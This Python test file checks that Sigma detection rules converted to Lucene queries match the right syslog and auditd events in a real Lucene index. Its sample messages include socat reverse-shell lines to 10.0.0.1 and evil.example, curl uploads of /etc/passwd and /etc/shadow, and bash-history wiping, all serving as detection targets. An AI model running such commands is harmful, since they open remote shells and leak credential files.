"""The `lucene` target's queries, run by Apache Lucene 8 with an Elasticsearch-like mapping.

tests/engines/lucene/LuceneVerdicts.java is compiled at test time against Debian's
liblucene8-java jars. It indexes ECS events with `message` analysed by the standard analyser
(as Elasticsearch's `standard` analyser does: no stop words) and the other fields as exact
keyword terms or long points, parses each query with Lucene's classic QueryParser (the parser
Elasticsearch's query_string extends), and reports which events match. Without Java or the jars
the tests are skipped with the reason; `.ci/run` installs both.
"""

from __future__ import annotations

import copy
import glob
import random
import re
import shutil
import subprocess
from pathlib import Path

import pytest
from flagship_events import FLAGSHIP_EVENTS, FLAGSHIP_POSITIVE, FLAGSHIP_TEXT
from flagship_events import event as _event
from helpers import make_rule
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st
from regen_golden import GOLDEN, REPO
from sigma.backends.elasticsearch import LuceneBackend
from test_regex_translate import ALPHABET as REGEX_ALPHABET
from test_regex_translate import FLAG_SETS, patterns, python_flags

from taintsigma import convert_rule, load_rules
from taintsigma.convert.regex_translate import translate_regex
from taintsigma.convert.targets import load_target
from taintsigma.resources import bundled_rules_dir

SOURCE = REPO / "tests" / "engines" / "lucene" / "LuceneVerdicts.java"
JARS = ("lucene-core", "lucene-analyzers-common", "lucene-queryparser")
TEXT_FIELDS = ("message",)
LONG_FIELDS = ("process.pid",)
LINUX_EVENT = {"host.os.type": "linux", "event.dataset": "system.syslog"}

# A small syslog corpus for the test-only rules of tests/rules/.
CORPUS = {
    "sshd_web01": _event(
        process__name="sshd",
        process__pid=812,
        host__hostname="web01",
        message="Accepted publickey for root from 192.0.2.4 port 50122 ssh2",
    ),
    "sudo_build01": _event(
        process__name="sudo",
        process__pid=1500,
        host__hostname="build01",
        log__syslog__facility__name="authpriv",
        message="pam_unix(sudo:session): session opened for user root",
    ),
    "kernel_segfault": _event(
        process__name="kernel",
        host__hostname="web01",
        message='app[77]: segfault at 0 ip "quoted" C:\\temp happened',
    ),
    "logind_db": _event(
        process__name="systemd-logind",
        process__pid=1,
        host__hostname="db.example.org",
        message="New session 4 of user admin.",
    ),
    "cron_no_pid": _event(
        process__name="cron",
        host__hostname="web01",
        message="(root) CMD (run-parts /etc/cron.hourly)",
    ),
    "sshd_build01_low_pid": _event(
        process__name="sshd", process__pid=50, host__hostname="build01", message="Server listening"
    ),
    "sshd_web02_high_pid": _event(
        process__name="sshd", process__pid=2000, host__hostname="web02", message="Connection closed"
    ),
    "no_hostname": _event(process__name="agent", process__pid=77, message="started"),
    "tainted": _event(
        process__name="kernel", host__hostname="web01", message=f"[ 5.1] evilmod: {FLAGSHIP_TEXT}"
    ),
    "oom": _event(
        process__name="kernel",
        host__hostname="web01",
        message="Out of memory: Killed process 1234 (java) total-vm:100kB",
    ),
    # A wildcard inside a message value (tests/rules/text_inside_wildcard.yml).
    "clamd_trojan": _event(
        process__name="clamd", host__hostname="web01",
        message="/srv/a.php: Win.Trojan.Agent-6 FOUND",
    ),
    "clamd_clean": _event(process__name="clamd", host__hostname="web01", message="/srv/c.php: OK"),
    "history_cleared": _event(
        process__name="bash", host__hostname="web01",
        message="cat /dev/null > /root/.bash_history",
    ),
    # The kernel-module taint pack: each message as kernel/module/*.c and the lockdown LSM print
    # it, and near misses.
    **(TAINT_PACK := {
        name: _event(process__name="kernel", host__hostname="web01", message=message)
        for name, message in {
            "out_of_tree": "[ 2.9] vboxdrv: loading out-of-tree module taints kernel.",
            "test_module": "kunit_x: loading test module taints kernel.",
            "proprietary": "nvidia: module license 'NVIDIA' taints kernel.",
            "license_offender": "ndiswrapper: module license taints kernel.",
            "staging": "r8188eu: module is from the staging directory, the quality is unknown, "
            "you have been warned.",
            "forced": "evil: bad vermagic: kernel tainted.",
            "vermagic_refused": "evil: version magic '6.1.0 SMP' should be '6.1.2 SMP'",
            "rejected": "Loading of unsigned module is rejected",
            "lockdown": "Lockdown: insmod: unsigned module loading is restricted; "
            "see man kernel_lockdown.7",
            "lockdown_other": "Lockdown: insmod: use of kprobes is restricted; "
            "see man kernel_lockdown.7",
            "livepatch": "livepatch_x: tainting kernel with TAINT_LIVEPATCH",
        }.items()
    }),
    # journald's _TRANSPORT (ECS systemd.transport): the kernel's own message, and a forgery
    # written with `logger -t kernel`.
    "tainted_journald": _event(
        process__name="kernel", systemd__transport="kernel", message=f"vboxdrv: {FLAGSHIP_TEXT}"
    ),
    "tainted_forged": _event(
        process__name="kernel", systemd__transport="syslog", message=f"evil: {FLAGSHIP_TEXT}"
    ),
    # auditd records as the Auditd Logs integration indexes them (ENRICHED: SYSCALL, the name).
    **{
        name: {
            "host.os.type": "linux",
            "event.dataset": "auditd.log",
            "host.hostname": "web01",
            "process.name": "insmod",
            "auditd.log.record_type": record_type,
            **({"auditd.log.syscall": number, "auditd.log.SYSCALL": call} if number else {}),
        }
        for name, (record_type, number, call) in {
            "audit_finit_module": ("SYSCALL", "313", "finit_module"),
            "audit_init_module": ("SYSCALL", "175", "init_module"),
            "audit_delete_module": ("SYSCALL", "176", "delete_module"),
            "audit_kern_module": ("KERN_MODULE", "", ""),
        }.items()
    },
}
TAINT_PACK = (*TAINT_PACK, "tainted_journald", "tainted_forged")

# What each rule means on CORPUS (Sigma's semantics), by rule file stem.
EXPECTED = {
    "tainted_kernel_module_load": {"tainted", "tainted_journald", "tainted_forged"},
    "value_lists": {"sshd_web01", "sudo_build01", "sshd_build01_low_pid", "sshd_web02_high_pid"},
    "numeric_pid": {"sshd_web02_high_pid"},
    "conditions": {"sshd_web01", "kernel_segfault", "sshd_web02_high_pid", "tainted", "oom"}
    | set(TAINT_PACK),  # every kernel event not from build01
    "field_exists": {"no_hostname"},
    "null_value": {"cron_no_pid"},
    "keyword_wildcards": {"logind_db"},
    "keywords": {"tainted", "livepatch", "tainted_journald", "tainted_forged"},  # 'tainting kernel'
    "text_contains": {"kernel_segfault"},
    "text_startswith": {"oom"},
    "regex_keyword_field": {
        "sshd_web01",
        "sudo_build01",
        "sshd_build01_low_pid",
        "sshd_web02_high_pid",
    },
    "facility": {"sudo_build01"},
    "regex_search": {"sshd_web01", "sshd_web02_high_pid"},
    "regex_case_insensitive": {"sudo_build01"},
    "regex_reserved_chars": {"logind_db"},
    "out_of_tree_kernel_module_load": {"out_of_tree"},
    "proprietary_kernel_module_load": {"proprietary", "license_offender"},
    "staging_kernel_module_load": {"staging"},
    "forced_kernel_module_load": {"forced"},
    "unsigned_kernel_module_rejected": {"rejected", "lockdown"},
    "livepatch_kernel_module_load": {"livepatch"},
    "tainted_kernel_module_load_journald": {"tainted_journald"},
    "text_inside_wildcard": {"clamd_trojan", "history_cleared"},
    "kernel_module_load_syscall_auditd": {"audit_finit_module", "audit_init_module"},
    # condition: [selection_sshd, selection_cron] means either (issue 11 item 1)
    "condition_list": {"sshd_web01", "sshd_build01_low_pid", "sshd_web02_high_pid", "cron_no_pid"},
}


def _escape(value: str) -> str:
    return (
        value.replace("\\", "\\\\")
        .replace("\t", "\\t")
        .replace("\n", "\\n")
        .replace("\r", "\\r")
    )


def _compile_java(tmp_path_factory: pytest.TempPathFactory, source: Path) -> tuple[str, Path, str]:
    """Compile one harness against Debian's Lucene 8 jars: (java, classes folder, classpath).

    Skips, saying what to install, when Java or the jars are missing.
    """
    java, javac = shutil.which("java"), shutil.which("javac")
    if not (java and javac):
        pytest.skip("Java (java and javac) is not installed: apt-get install default-jdk-headless")
    jars = []
    for name in JARS:
        found = sorted(glob.glob(f"/usr/share/java/{name}-8*.jar"))
        if not found:
            pytest.skip(
                f"/usr/share/java/{name}-8*.jar is missing: apt-get install liblucene8-java"
            )
        jars.append(found[-1])
    classes = tmp_path_factory.mktemp(source.stem)
    classpath = ":".join(jars)
    subprocess.run(
        [javac, "-d", str(classes), "-cp", classpath, str(source)],
        check=True,
        capture_output=True,
        text=True,
        timeout=300,
    )
    return java, classes, classpath


@pytest.fixture(scope="module")
def lucene(tmp_path_factory: pytest.TempPathFactory):
    java, classes, classpath = _compile_java(tmp_path_factory, SOURCE)
    work = tmp_path_factory.mktemp("lucene-run")

    def verdicts(
        events: dict[str, dict[str, str]], queries: list[str], *, errors_ok: bool = False
    ) -> list[set[str] | str]:
        names = list(events)
        (work / "events.tsv").write_text(
            "".join(
                "\t".join(f"{k}={_escape(v)}" for k, v in events[n].items()) + "\n" for n in names
            ),
            encoding="utf-8",
        )
        (work / "queries.txt").write_text(
            "".join(_escape(q) + "\n" for q in queries), encoding="utf-8"
        )
        done = subprocess.run(
            [
                java,
                "-cp",
                f"{classes}:{classpath}",
                "LuceneVerdicts",
                str(work / "events.tsv"),
                str(work / "queries.txt"),
                ",".join(TEXT_FIELDS),
                ",".join(LONG_FIELDS),
            ],
            check=True,
            capture_output=True,
            text=True,
            timeout=300,
        )
        results = []
        for line in done.stdout.splitlines():
            if line.startswith("ERROR"):
                assert errors_ok, line
                results.append(line)
            else:
                results.append({names[int(i)] for i in line.split()})
        assert len(results) == len(queries)
        return results

    return verdicts


def _golden(stem: str) -> str:
    return (GOLDEN / "lucene" / f"{stem}.lucene").read_text(encoding="utf-8").rstrip("\n")


def test_flagship_matches_the_real_events(lucene) -> None:
    [matched] = lucene(FLAGSHIP_EVENTS, [_golden("tainted_kernel_module_load")])
    assert matched == FLAGSHIP_POSITIVE


def test_stock_pysigma_wildcard_never_matches(lucene) -> None:
    # Why the target is field-type aware: pySigma's own translation puts a wildcard across
    # spaces on the analysed message, and Lucene finds no event at all.
    backend = LuceneBackend(load_target("lucene").build_pipeline())
    [stock] = backend.convert(copy.deepcopy(load_rules([bundled_rules_dir() / "tainted_kernel_module_load.yml"]).collection))
    assert "message:*module\\ verification" in stock
    [matched] = lucene(FLAGSHIP_EVENTS, [stock])
    assert matched == set()


def test_every_lucene_golden_has_expected_verdicts() -> None:
    stems = {p.stem for p in (GOLDEN / "lucene").glob("*.lucene")}
    assert stems == set(EXPECTED)


@pytest.fixture(scope="module")
def corpus_verdicts(lucene) -> dict[str, set[str]]:
    stems = sorted(EXPECTED)  # one Java run for every golden
    return dict(zip(stems, lucene(CORPUS, [_golden(stem) for stem in stems])))


def test_sigmahq_conversions_parse_in_lucene(lucene) -> None:
    # Every lucene query of the SigmaHQ Linux corpus that converts (a refusal is an honest
    # answer, not a failure) parses in Lucene's query parser and runs on the corpus.
    import warnings

    from taintsigma import ErrorPolicy, UnsupportedByTarget, convert_rules

    loaded = load_rules([REPO / "tests" / "corpus" / "sigmahq" / "rules" / "linux"],
                        on_error=ErrorPolicy.COLLECT)  # fmt: skip
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        report = convert_rules(loaded, "lucene", on_error=ErrorPolicy.COLLECT)
    assert all(isinstance(e, UnsupportedByTarget) for e in report.errors), report.errors[:3]
    queries = [c.query for c in report.conversions]
    assert queries
    results = lucene(CORPUS, queries, errors_ok=True)
    errors = [(q, r) for q, r in zip(queries, results) if isinstance(r, str)]
    assert errors == []


@pytest.mark.parametrize("stem", sorted(EXPECTED))
def test_golden_query_agrees_with_sigma(corpus_verdicts: dict[str, set[str]], stem: str) -> None:
    assert corpus_verdicts[stem] == EXPECTED[stem]


def test_wildcard_inside_a_message_value_finds_every_event_the_rule_matches(lucene) -> None:
    # 'Trojan*FOUND' and 'cat /dev/null >*sh_history' as keywords: each piece searched on its
    # own, a word touching the wildcard as a word wildcard (Trojan may sit inside
    # "Win.Trojan.Agent", sh_history inside "bash_history"). The query is a warned superset:
    # it finds every event Sigma matches, and may find more (the pieces in another order).
    messages = {
        "win_trojan": "/srv/a.php: Win.Trojan.Agent-6 FOUND",  # Sigma: match
        "glued": "/srv/b: TrojanDownloader FOUND",  # Sigma: match
        "zsh": "cat /dev/null >~/.zsh_history",  # Sigma: match
        "spaced": "sudo cat /dev/null >    /home/x/.sh_history now",  # Sigma: match
        "clean": "/srv/c.php: OK",  # Sigma: no match
        "other_file": "cat /dev/null > /tmp/notes",  # Sigma: no match
        "reversed": "FOUND signatures; Trojan database updated",  # Sigma: no match (superset)
    }
    events = {n: _event(process__name="clamd", message=m) for n, m in messages.items()}
    [matched] = lucene(events, [_golden("text_inside_wildcard")])
    assert {"win_trojan", "glued", "zsh", "spaced"} <= matched
    assert matched - {"win_trojan", "glued", "zsh", "spaced"} == {"reversed"}


# Escaping: any value of a keyword field must reach Lucene intact and match exactly itself.
HOSTILE = [
    "AND",
    "OR",
    "NOT",
    "and",
    "TO",
    "a b",
    "x:y",
    '"q"',
    "back\\slash",
    "a*b",
    "a?b",
    "(p)",
    "[x TO y]",
    "{c}",
    "a/b",
    "-lead",
    "+plus",
    "!bang",
    "~t",
    "^c",
    "a&&b",
    "a||b",
    "<>=",
    "ümlaut",
    "日本語",
    "😀",
    " lead",
    "trail ",
    "a\\*b",
    "\\",
    '\\"',
    "*",
    "?",
    "two\nlines",
    "tab\there",
    "cr\rlf",
]
ALPHABET = 'abAB01 \\"*?:()[]{}/+-!~^&|<>=ü'


def _random_values(count: int, seed: int = 20261126) -> list[str]:
    rng = random.Random(seed)
    values = []
    while len(values) < count:
        value = "".join(rng.choice(ALPHABET) for _ in range(rng.randint(1, 8)))
        if value.strip():
            values.append(value)
    return values


def _sigma_literal(value: str) -> str:
    # Sigma escapes: a literal backslash, '*' or '?' needs a backslash before it.
    return value.replace("\\", "\\\\").replace("*", "\\*").replace("?", "\\?")


@pytest.mark.parametrize("modifier", ["", "|contains", "|startswith", "|endswith"])
def test_keyword_values_arrive_intact(lucene, modifier: str) -> None:
    values = list(dict.fromkeys(HOSTILE + _random_values(150)))
    events = {f"v{i}": {**LINUX_EVENT, "process.name": v} for i, v in enumerate(values)}
    queries = [
        convert_rule(make_rule({"selection": {f"program{modifier}": _sigma_literal(v)}}), "lucene")
        for v in values
    ]
    # keyword fields are case-sensitive in Elasticsearch (docs/semantics.md)
    meaning = {
        "": str.__eq__,
        "|contains": lambda value, wanted: wanted in value,
        "|startswith": str.startswith,
        "|endswith": str.endswith,
    }[modifier]
    results = lucene(events, queries, errors_ok=True)
    wrong = {}
    for i, got in enumerate(results):
        expected = {f"v{j}" for j, other in enumerate(values) if meaning(other, values[i])}
        if got != expected:
            wrong[values[i]] = (queries[i].split(" AND ", 2)[-1], got)
    assert wrong == {}


def test_message_phrases_arrive_intact(lucene) -> None:
    # Token-aligned values with hostile characters inside: the phrase on the analysed message
    # must find the event that contains the value (a phrase may find more: docs/semantics.md).
    inner = _random_values(120, seed=7)
    values = list(dict.fromkeys(f"a{middle}z" for middle in inner))
    events = {
        f"v{i}": {**LINUX_EVENT, "process.name": "kernel", "message": f"pre {v} post"}
        for i, v in enumerate(values)
    }
    queries = [
        convert_rule(make_rule({"selection": {"message|contains": _sigma_literal(v)}}), "lucene")
        for v in values
    ]
    assert all('message:"' in q for q in queries)
    results = lucene(events, queries)
    missed = {values[i]: queries[i] for i, got in enumerate(results) if f"v{i}" not in got}
    assert missed == {}


@pytest.mark.parametrize(
    ("value", "messages"),
    [
        # ';' and ',' join only digits, ':' only letters, '.' only two letters or two digits:
        # next to anything else they always end the word, so the phrase drops them (warned).
        ("x;", ["chown root:root x;rm -rf", "x;", "a x; b", "x;5"]),
        ("DROP;", ["-j DROP;iptables -L", "-j DROP;1"]),
        ("rm -f .", ["rm -f .tmp", "rm -f .1", "rm -f ./a"]),
        ("12:", ["port 12:ab", "12:34"]),
        ("; grep", ["ping;grep x", "a1; grep"]),
    ],
)
def test_punctuation_that_always_ends_a_word_is_dropped(
    lucene, value: str, messages: list[str]
) -> None:
    from sigma.collection import SigmaCollection

    from taintsigma import convert_rules

    events = {f"m{i}": {**LINUX_EVENT, "message": m} for i, m in enumerate(messages)}
    rule = make_rule({"selection": {"message|contains": value}})
    [done] = convert_rules(SigmaCollection([rule]), "lucene").conversions
    assert any("is not enforced" in w for w in done.warnings)
    [matched] = lucene(events, [done.query])
    assert matched == set(events)  # every message contains the value: none may be missed


# Punctuation at an open end that the standard analyser may join to the next word (UAX #29:
# ':' between letters, ',' between digits, '.' and "'" between two letters or two digits): the
# word beside it is a lower-case word wildcard on that side, ANDed with the rest's phrase. Every
# message Sigma matches, the joined forms included, must be found; what else is found is the
# documented over-match of the warned superset (SigmaHQ's Linux rules hold each of these values).
JOINING_CASES = [
    (
        ".bash_history",  # lnx_auditd_susp_histfile_operations
        {
            "dotfile": "cat /root/.bash_history",
            "joined": "vi x.bash_history",  # one word: "x.bash_history"
            "longer": "cp .bash_history.bak /tmp",
            "other": "cat /root/.bashrc",
        },
        {"undotted": "cat /root/bash_history"},  # "bash_history" is a word of its own
    ),
    (
        "/syslog.",  # lnx_clear_syslog (there under 'not': refused)
        {
            "digit": "mv /var/log/syslog.1 /tmp",  # "syslog" "1"
            "joined": "rm /var/log/syslog.old",  # one word: "syslog.old"
            "end": "ls /var/log/syslog. done",
            "other": "rm /var/log/messages",
        },
        {"no_dot": "rm /var/log/syslog", "no_slash": "rm syslog.old"},
    ),
    (
        "Connection refused: too many sessions for this address.",  # lnx_vsftpd_susp_error_messages
        {
            "end": "Connection refused: too many sessions for this address.",
            "joined": "Connection refused: too many sessions for this address.Bye",
            "host": "Connection refused: too many sessions for this host.",
        },
        # the word after the phrase is not enforced to follow it
        {"apart": "Connection refused: too many sessions for this host; bad address"},
    ),
    (
        "GID=0,",  # lnx_privileged_user_creation
        {
            "root": "new user: name=john, UID=0, GID=0, home=/home/john",
            "joined": "new user: name=x, GID=0,5 home=/x",  # one word: "0,5"
            "wheel": "new user: name=b, UID=1000, GID=10, home=/home/b",
        },
        {"uid_zero": "new user: name=c, UID=0, GID=10, home=/home/c"},
    ),
    (
        "socat exec:",  # lnx_shell_susp_commands ('socat exec:*')
        {
            "joined": "socat exec:sh tcp:10.0.0.1:4242",  # one word: "exec:sh"
            "quoted": "socat exec:'bash -li',pty tcp:10.0.0.1:4242",
            "other": "socat -d - tcp:10.0.0.1:4242",
        },
        {"apart": "socat tcp:10.0.0.1:4242 exec"},
    ),
    (
        "socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:",  # lnx_shell_susp_rev_shells
        {
            "digits": "socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:10.0.0.1:4242",
            "joined": "socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:evil.example:1",
            "other": "socat exec:'bash -li',pty,stderr,setsid,sigint,sane udp:10.0.0.1:53",
        },
        {"apart": "socat exec:'bash -li',pty,stderr,setsid,sigint,sane; ping tcp"},
    ),
]


@pytest.mark.parametrize(("value", "messages", "over"), JOINING_CASES)
def test_punctuation_that_may_join_the_next_word_is_a_word_wildcard(
    lucene, value: str, messages: dict[str, str], over: dict[str, str]
) -> None:
    from sigma.collection import SigmaCollection

    from taintsigma import convert_rules

    everything = {**messages, **over}
    events = {name: {**LINUX_EVENT, "message": m} for name, m in everything.items()}
    rule = make_rule({"keywords": [_sigma_literal(value)]}, "keywords")
    [done] = convert_rules(SigmaCollection([rule]), "lucene").conversions
    assert len(done.warnings) == 1 and "may join" in done.warnings[0]
    sigma = {name for name, m in everything.items() if value.lower() in m.lower()}
    assert sigma and not sigma & set(over)
    [matched] = lucene(events, [done.query])
    assert sigma <= matched, done.query
    assert matched - sigma == set(over), done.query


def test_generated_joining_values_find_every_message_sigma_matches(lucene) -> None:
    # Values starting or ending on punctuation that may join a word, in messages that glue
    # letters, digits and punctuation to that side: the warned superset must find every
    # message Sigma's case-insensitive substring match finds. (The other side, a letter or
    # digit, is read as the end of a word: docs/semantics.md, "Reading of contains".)
    from sigma.collection import SigmaCollection

    from taintsigma import UnsupportedByTarget, convert_rules

    rng = random.Random(20261130)
    words = ["exec", "GID", "0", "27", "bash_history", "Syslog", "a1", "x_y"]
    joining = list(".:,;'_")
    glue = ["", "x", "9", "a.", "1,", "_", "b'", ".z", ",5", ":q", "'s", "Q1"]
    before_word, after_word = ["", " ", "/", "x "], ["", " ", "/", " x"]
    values: list[str] = []
    messages: dict[str, str] = {}
    while len(values) < 60:
        word = rng.choice(words)
        ends_on_joining = rng.random() < 0.6
        if ends_on_joining:
            value = f"{rng.choice(['', 'socat ', 'x=', '/', 'rm -f '])}{word}{rng.choice(joining)}"
        else:
            value = f"{rng.choice(joining)}{word}{rng.choice(['', ' now', '='])}"
        if value in values:
            continue
        for j in range(4):
            pre, post = rng.choice(before_word), rng.choice(glue)
            if not ends_on_joining:
                pre, post = rng.choice(glue)[::-1], rng.choice(after_word)
            messages[f"m{len(values)}_{j}"] = pre + value + post
        values.append(value)
    events = {name: {**LINUX_EVENT, "message": m} for name, m in messages.items()}
    queries, kept = [], []
    for value in values:
        rule = make_rule({"selection": {"message|contains": _sigma_literal(value)}})
        try:
            [done] = convert_rules(SigmaCollection([rule]), "lucene").conversions
        except UnsupportedByTarget:
            continue
        queries.append(done.query)
        kept.append(value)
    assert len(kept) >= 50, set(values) - set(kept)
    missed = {}
    for value, query, matched in zip(kept, queries, lucene(events, queries)):
        sigma = {n for n, m in messages.items() if value.lower() in m.lower()}
        if not sigma <= matched:
            missed[value] = (query, sorted(messages[n] for n in sigma - matched))
    assert missed == {}


# ---- regular expressions: Sigma's search, translated, run by real Lucene -------------------
# tests/engines/lucene/LuceneRegexVerdicts.java indexes keyword values and runs either a
# query_string (the lucene target's output, parsed by the classic QueryParser) or a bare
# Lucene regexp (what EQL's regex and ES|QL's RLIKE run); queries are escaped one per line,
# so translations holding a newline are tested too.

REGEX_SOURCE = REPO / "tests" / "engines" / "lucene" / "LuceneRegexVerdicts.java"


def _escape_line(text: str) -> str:
    return _escape(text).replace("\r", "\\r")


@pytest.fixture(scope="module")
def lucene_regex(tmp_path_factory: pytest.TempPathFactory):
    java, classes, classpath = _compile_java(tmp_path_factory, REGEX_SOURCE)
    work = tmp_path_factory.mktemp("lucene-regex-run")

    def verdicts(values: list[str], queries: list[str]) -> list[set[int] | str]:
        """Per query ("Q\\t<query_string on v>" or "R\\t<regexp>"): matching value indices."""
        (work / "values.txt").write_text(
            "".join(_escape_line(v) + "\n" for v in values), encoding="utf-8"
        )
        (work / "queries.txt").write_text(
            "".join(q[:2] + _escape_line(q[2:]) + "\n" for q in queries), encoding="utf-8"
        )
        done = subprocess.run(
            [
                java,
                "-cp",
                f"{classes}:{classpath}",
                "LuceneRegexVerdicts",
                str(work / "values.txt"),
                str(work / "queries.txt"),
            ],
            check=True,
            capture_output=True,
            text=True,
            timeout=300,
        )
        results: list[set[int] | str] = [
            line if line.startswith("ERROR") else {int(i) for i in line.split()}
            for line in done.stdout.split("\n")[: len(queries)]
        ]
        assert len(results) == len(queries)
        return results

    return verdicts


def _sigma_regex_rule(pattern: str, flags: dict[str, bool]):
    modifiers = "".join(
        f"|{letter}"
        for key, letter in (("ignore_case", "i"), ("multiline", "m"), ("dotall", "s"))
        if flags.get(key)
    )
    return make_rule({"selection": {f"program|re{modifiers}": pattern}})


def _regex_queries(pattern: str, flags: dict[str, bool]) -> list[str]:
    """The lucene target's query on the value field, and the bare translated regexp."""
    query = convert_rule(_sigma_regex_rule(pattern, flags), "lucene")
    head, _, regex_part = query.partition(" AND process.name:")
    assert head == "(host.os.type:linux AND event.dataset:system.syslog)", query
    return [f"Q\tv:{regex_part}", "R\t" + translate_regex(pattern, **flags)]


# Lucene refuses a regexp whose automaton needs more than 10000 determinization steps
# (Elasticsearch's max_determinized_states): a loud error, never a wrong answer.
TOO_COMPLEX = "ERROR Determinizing"


def _check_against_search(
    lucene_regex, cases: list[tuple[str, dict[str, bool]]], values: list[str]
) -> int:
    """Assert Lucene agrees with re.search on every case; return how many were too complex."""
    queries = [q for pattern, flags in cases for q in _regex_queries(pattern, flags)]
    results = lucene_regex(values, queries)
    wrong = {}
    too_complex = 0
    for index, (pattern, flags) in enumerate(cases):
        search = re.compile(pattern, python_flags(flags))
        expected = {i for i, value in enumerate(values) if search.search(value)}
        for got, path in zip(results[2 * index : 2 * index + 2], ("query_string", "regexp")):
            if isinstance(got, str) and got.startswith(TOO_COMPLEX):
                too_complex += 1
            elif got != expected:
                missed = got if isinstance(got, str) else sorted(values[i] for i in expected - got)
                extra = [] if isinstance(got, str) else sorted(values[i] for i in got - expected)
                wrong[(pattern, str(flags), path)] = (queries[2 * index], missed, extra)
    assert wrong == {}
    return too_complex


REGEX_VALUES = [
    "sshd",
    "sudo",
    "sshd\n",
    "xsshd",
    "sshdx",
    "SSHD",
    "Sudo",
    "sshd\nsudo",
    "cron\nsshd",
    "",
    "\n",
    "web01",
    "web",
    "db.example.org",
    "dbxexample.org",
    "a#b",
    "a@b",
    "a&b",
    "a<b>",
    "a~b",
    'a"b',
    "a/b",
    "C:\\temp",
    "a b",
    "a\tb",
    "k",
    "K",
    "\u212a",
    "pam_unix(sudo:session)",
    "systemd-logind",
    "sshd[812]",
    "user=root uid=0",
]

REGEX_CASES: list[tuple[str, dict[str, bool]]] = [
    ("^(sshd|sudo)$", {}),
    ("sshd", {}),
    ("^sshd", {}),
    ("sshd$", {}),
    ("^sshd$", {"multiline": True}),
    (r"\Asshd\Z", {}),
    ("^s.d", {}),
    ("^s.*o$", {}),
    ("^s.*o$", {"dotall": True}),
    ("SSHD", {"ignore_case": True}),
    ("^k$", {"ignore_case": True}),
    (r"^web\d+$", {}),
    (r"\w+\.\w+\.org", {}),
    (r"a\sb", {}),
    (r"^\S+$", {}),
    (r"a[#@&<>~\"/]b", {}),
    (r"C:\\temp", {}),
    (r"uid=\d", {}),
    (r"\(sudo:.*?\)", {}),
    (r"^[^\n]*sshd$", {}),
    (r"[^a-z]", {}),
    ("^$", {}),
    ("", {}),
]


def test_regex_examples_agree_with_sigma_search(lucene_regex) -> None:
    assert _check_against_search(lucene_regex, REGEX_CASES, REGEX_VALUES) == 0


def test_stock_pysigma_regex_is_anchored_and_misses(lucene_regex) -> None:
    # Why the translation exists: pySigma passes '^(sshd|sudo)$' and 'ssh' through, and Lucene
    # reads them as whole-value patterns with literal ^ and $.
    backend = LuceneBackend(load_target("lucene").build_pipeline())
    stock = [
        backend.convert_rule(_sigma_regex_rule(p, {}))[0].partition(" AND process.name:")[2]
        for p in ("^(sshd|sudo)$", "ssh")
    ]
    assert stock == ["/^(sshd|sudo)$/", "/ssh/"]
    results = lucene_regex(["sshd", "sudo", "ssh-agent"], [f"Q\tv:{q}" for q in stock])
    assert results == [set(), set()]


# One Java run per example; no shrinking (each step would be a Java run): a failure lists
# every wrong pattern of its batch.
@settings(
    max_examples=8,
    deadline=None,
    phases=[Phase.explicit, Phase.reuse, Phase.generate],
    suppress_health_check=[HealthCheck.too_slow],
)
@given(
    st.lists(st.tuples(patterns(), st.sampled_from(FLAG_SETS)), min_size=30, max_size=30),
    st.lists(st.text(alphabet=REGEX_ALPHABET, max_size=6), min_size=40, max_size=40),
)
def test_generated_regexes_agree_with_python_search(
    lucene_regex, cases: list[tuple[str, dict[str, bool]]], values: list[str]
) -> None:
    # Generated nests of bounded repeats can exceed Lucene's limit; most must run.
    too_complex = _check_against_search(lucene_regex, cases, list(dict.fromkeys(values)))
    assert too_complex <= len(cases) // 5


# ---- a regex as KQL's wildcard values (taintsigma.convert.regex_wildcards), in real Lucene --
# KQL sends a wildcard value on a keyword field as Elasticsearch's `wildcard` query, which is
# Lucene's WildcardQuery: here each value is written as a query_string wildcard term on the
# keyword field "v" (every character but letters and digits escaped), ORed, and must accept
# exactly the values Python's re.search finds.

KQL_REGEX_VALUES = [
    "wget -O /tmp/x http://h",
    "wget\t-O\t/tmp/x",
    "wget -O\n/tmp/x",
    "wget --output-document=/tmp/x",
    "wget -o /tmp/x",
    "wget -O",
    "-O ",
    " -O",
    " -O ",
    "curl -F a=@/etc/passwd http://h",
    "curl -T /etc/shadow ftp://h",
    "curl -d @x http://h",
    "curl -D x http://h",
    "curl\u000b-d\u000cx",
    "curl -f x",
    "auditctl -D",
    "auditctl -d",
    "sshd",
    "sshd\n",
    "sudo\nx",
    "xsshd",
    "a*b",
    "ab",
    "a\nb",
]


def _lucene_wildcard_term(value) -> str:
    from taintsigma.convert.regex_wildcards import WILDCARD

    return "".join(
        "*" if c is WILDCARD else c if c.isascii() and c.isalnum() else "\\" + c for c in value
    )


@pytest.mark.parametrize(
    ("pattern", "flags"),
    [
        ("-D", {}),  # proc_creation_lnx_auditctl_clear_rules
        (r"\s-O\s", {}),  # proc_creation_lnx_wget_download_suspicious_directory
        (r"\s-[FTd]\s", {}),  # proc_creation_lnx_susp_curl_fileupload
        ("^(sshd|sudo)$", {}),
        ("^sudo", {"multiline": True}),
        (r"a\*b|^ab\Z", {}),
        ("a.*b", {"dotall": True}),
    ],
)
def test_kql_regex_values_accept_exactly_what_the_search_finds(
    lucene_regex, pattern: str, flags: dict[str, bool]
) -> None:
    from taintsigma.convert.regex_wildcards import regex_to_wildcards

    values = regex_to_wildcards(pattern, **flags)
    query = "Q\tv:(" + " OR ".join(_lucene_wildcard_term(v) for v in values) + ")"
    [got] = lucene_regex(KQL_REGEX_VALUES, [query])
    search = re.compile(pattern, python_flags(flags))
    expected = {i for i, value in enumerate(KQL_REGEX_VALUES) if search.search(value)}
    assert expected  # the values exercise the pattern
    assert got == expected, query
